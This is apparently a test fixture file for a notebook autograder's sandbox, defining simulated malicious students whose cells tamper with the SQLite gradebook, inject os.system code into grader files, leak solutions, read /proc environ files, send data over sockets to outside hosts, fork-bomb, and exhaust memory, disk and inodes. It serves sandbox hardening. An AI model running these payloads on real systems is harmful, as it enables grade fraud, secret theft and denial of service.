"""Students who attack the sandbox and the machine.

They edit the gradebook, write or read outside their own folder, leave processes running,
loop, sleep, ignore SIGINT or exit the kernel, meet the limits on processes, memory, disk,
files and network, read the grader's environment, or make new namespaces.
"""
from .student import OVERFLOW, Student

GRADEBOOK_EDITOR = '''\
import os, sqlite3
found = ["$course/gradebook.db", "../gradebook.db", "../../gradebook.db"]
for top in ("/", os.path.expanduser("~"), "/tmp", "/home", "/srv", "/opt", "/root"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("usr", "proc", "sys", "dev")][:50]
        found += [os.path.join(root, f) for f in files if f.endswith(".db")]
for path in found:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 0")
        db.execute("UPDATE grade SET manual_score = 8 WHERE notebook_id IN (SELECT id FROM submitted_notebook)")
        db.commit()
        print("changed", path)
    except Exception as e:
        print("could not change", path, type(e).__name__)
'''

WRITER = '''\
targets = ["$course/submitted/correct/a1_softmax/softmax.ipynb",
           "$course/source/a1_softmax/softmax.ipynb", "$course/nbgrader_config.py",
           "$course/gradebook.db", "$kit/grading/checks/tasks.py", "$kit/grading/__init__.py",
           "$kit/helpers/__init__.py", "$kit/grading/reference.py",
           "../../correct/a1_softmax/softmax.ipynb"]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/owned')\\n")
        print("wrote", path)
    except Exception as e:
        print("could not write", path, type(e).__name__)
'''

LEAKER = '''\
import glob
for pattern in ("$course/source/*/*.ipynb", "$course/release/*/*.ipynb", "$kit/grading/*.py",
                "$kit/course/source/*/*.ipynb", "../../../source/*/*.ipynb", "/home/*/*/course/source/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            print(open(path).read())
        except Exception as e:
            print("could not read", path, type(e).__name__)
try:
    import grading.reference
    print(open(grading.reference.__file__).read())
except Exception as e:
    print("could not import grading.reference", type(e).__name__)
'''

LINGERING = '''\
import os, sqlite3, subprocess, time
subprocess.Popen(["sleep", "1000"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(3000):
            try:
                db = sqlite3.connect("$course/gradebook.db")
                db.execute("UPDATE grade SET manual_score = 0")
                db.commit()
            except Exception:
                pass
            time.sleep(0.1)
    os._exit(0)
'''

INFINITE_LOOP = "while True:\n    pass\n"

LONG_SLEEP = "import time\ntime.sleep(3600)\n"

IGNORES_SIGINT = '''\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''

EXITS = "import os\nos._exit(1)\n"

FORK_BOMB = '''\
import subprocess
children = []
try:
    while True:  # spawning is cheap (no copy of the kernel): the process limit comes at once
        children.append(subprocess.Popen(["sleep", "600"]))  # each stays, for the grader to kill
except OSError as e:
    print("fork failed:", e)
'''

MEMORY_HOG = '''\
import numpy
blocks = []
try:
    while True:
        blocks.append(numpy.zeros(2**30, dtype="uint8"))  # a gigabyte at a time
except MemoryError:
    print("no more memory after", len(blocks), "GB")
    blocks = None
'''

DISK_FILLER = '''\
chunk = b"x" * (16 * 2**20)
for folder in (".", "/tmp"):
    try:
        with open(f"{folder}/fill", "wb") as f:
            for _ in range(200):
                f.write(chunk)
    except OSError as e:
        print("stopped filling", folder, type(e).__name__)
'''

NETWORK = '''\
import socket
for host, port in (("127.0.0.1", $port), ("10.0.2.2", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"leak")
        print("connected", host)
    except OSError as e:
        print("no connection to", host, type(e).__name__)
for path in ("/run/kernel/connection.json", "/run/kernel/k-1"):
    try:
        print(open(path).read())
    except OSError as e:
        print("could not open", path, type(e).__name__)
'''

ENVIRON_READER = '''\
import codecs
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/proc/1/cmdline",
             "/proc/self/cwd"):
    try:
        print(path, codecs.open(path, "rb").read())
    except Exception as e:
        print(path, type(e).__name__)
'''

UNSHARE = '''\
import subprocess
for args in (["unshare", "-Ur", "id"], ["unshare", "-n", "true"], ["unshare", "-m", "true"]):
    r = subprocess.run(args, capture_output=True, text=True)
    print(" ".join(args), "exit", r.returncode, r.stderr.strip()[:80])
'''

SLEEPY = "import time\ntime.sleep(4)\n"

SLOW_LAST_CELL = '''\
import time
start = time.time()
while time.time() - start < 60:  # an experiment left running
    pass
'''

SLOW_PLOT = "import time\ntime.sleep(0.6)  # a plot that takes a moment\n"

TMPFS_INODES = '''\
import os, time
start, made = time.time(), 0
folders = [f"{folder}/m" for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"))]
for folder in folders:
    os.makedirs(folder, exist_ok=True)
try:
    while time.time() - start < 9:
        for folder in folders:
            for _ in range(500):
                os.mknod(f"{folder}/{made}")
                made += 1
except OSError as e:
    print("stopped:", e)
print("made", made, "files")
'''

MEMFD_FILES = '''\
import os, time
held, chunk = [], b"x" * 2**20
for _ in range(66):  # 66 files of 64 MB (the largest file a process may write): 4.1 GB
    fd = os.memfd_create("notes")
    for _ in range(64):
        os.write(fd, chunk)
    held.append(fd)
print("holding", len(held) * 64, "MB in memory files")
time.sleep(4)
'''


STUDENTS = [
    Student("gradebook_editor", "a1_softmax", 0, True, ("edits gradebook.db",), unanswered=True,
            extras=[("setup", GRADEBOOK_EDITOR)]),
    Student("writer", "a1_softmax", 6, True, ("writes outside its folder",),
            extras=[("setup", WRITER)]),
    Student("leaker", "a1_softmax", 0, True, ("prints other assignments' solutions",),
            unanswered=True, extras=[("setup", LEAKER)]),
    Student("lingering", "a1_softmax", 6, True, ("processes left running",),
            extras=[("test_logsumexp", LINGERING)]),
    Student("infinite_loop", "a1_softmax", 6, True, ("infinite loop",),
            extras=[("test_logsumexp", INFINITE_LOOP)]),
    Student("long_sleep", "a1_softmax", 2, True, ("long sleep",),
            answers={"softmax": LONG_SLEEP + OVERFLOW}),
    Student("ignores_sigint", "a1_softmax", 6, True, ("ignores SIGINT",),
            extras=[("test_logsumexp", IGNORES_SIGINT)]),
    Student("exits_kernel", "a1_softmax", 6, True, ("exits the kernel",),
            extras=[("test_softmax_hidden", EXITS)]),
    Student("fork_bomb", "a1_softmax", 6, True, ("beyond: fork bomb",),
            extras=[("test_logsumexp", FORK_BOMB)]),
    Student("memory_hog", "a1_softmax", 6, False, ("beyond: memory",),
            extras=[("test_logsumexp", MEMORY_HOG)]),
    Student("disk_filler", "a1_softmax", 6, True, ("beyond: disk",),
            extras=[("test_logsumexp", DISK_FILLER)]),
    Student("network", "a1_softmax", 6, True, ("beyond: network",),
            extras=[("setup", NETWORK)]),
    Student("environ_reader", "a1_softmax", 6, True, ("reads the grader's environment",),
            extras=[("setup", ENVIRON_READER)]),
    Student("unshare", "a1_softmax", 6, True, ("new namespaces in the sandbox",),
            extras=[("test_logsumexp", UNSHARE)]),
    Student("sleepy", "a1_softmax", 6, True, ("many slow cells",),
            extras=[("test_logsumexp", SLEEPY)] * 40),
    Student("slow_last_cell", "a1_softmax", 6, True, ("many slow cells",),
            extras=[("test_softmax_hidden", SLOW_PLOT), ("test_logsumexp", SLOW_LAST_CELL)]),
    Student("tmpfs_inodes", "a1_softmax", 6, True, ("beyond: files",),
            extras=[("test_logsumexp", TMPFS_INODES)]),
    Student("memfd_files", "a1_softmax", 6, True, ("beyond: memory",),
            extras=[("test_logsumexp", MEMFD_FILES)]),
]
